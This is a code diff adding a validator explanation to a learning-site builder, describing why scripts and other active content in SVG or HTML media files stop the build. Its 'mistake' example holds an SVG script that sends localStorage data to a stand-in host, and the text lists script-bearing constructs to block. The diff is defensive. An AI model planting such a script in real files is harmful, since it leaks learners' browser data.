@@ -102,6 +102,49 @@ extension Explanation {
                 Ideas for later chapters: friendship, feeling left out, saying no.
                 """)),
         Explanation(
+            .mediaActiveContent,
+            summary: "a page or picture in `media/` could run a script",
+            meaning: """
+                Folio publishes the files of `media/` with the site, and a browser shows an \
+                HTML page (`.html`, `.htm`, `.xhtml`) or an SVG picture opened from a link \
+                on the site's own address. Whatever such a file runs can read what the site \
+                keeps in the learner's browser: their name and their progress. So Folio \
+                reads every HTML, SVG and XML file of `media/` and stops the build when one \
+                holds something that runs: a `<script>` element, an event handler such as \
+                `onload` or `onclick`, a `javascript:` (or `vbscript:`, or a page's \
+                `data:`) address in `href`, `src`, `action` or `formaction`, a \
+                `<foreignObject>`, a frame (`<iframe>`, `<object>`, `<embed>`), an \
+                animation that sets an event handler or a script's address, or a `<meta>` \
+                refresh. The message points at the element or attribute.
+
+                In an SVG or XML file, an element inside one that a web page reads as text \
+                (`<textarea>`, `<style>` outside the picture's `<svg>`), an `<!ENTITY>` \
+                and `<?xml-stylesheet?>` are refused too: a browser would read them as \
+                elements Folio cannot see. A compressed `.svgz` picture, a file of more \
+                than 16 MB and one saved as UTF-16 without its mark cannot be checked, and \
+                are refused. To publish a page that needs its scripts, put it on a site of \
+                its own and link to its `https://` address.
+                """,
+            why: """
+                A script in a handout would run with the site's rights: it could send a \
+                learner's name and progress anywhere, or change what the site shows.
+                """,
+            mistake: .file(
+                "media/star.svg",
+                """
+                <svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">
+                  <script>fetch("https://example.org/?" + localStorage.length)</script>
+                  <circle cx="10" cy="10" r="8" fill="gold"/>
+                </svg>
+                """),
+            fix: .file(
+                "media/star.svg",
+                """
+                <svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">
+                  <circle cx="10" cy="10" r="8" fill="gold"/>
+                </svg>
+                """)),
+        Explanation(
             .chapterFileEnding,
             summary: "a chapter is saved with an ending other than `.md`",
             meaning: """
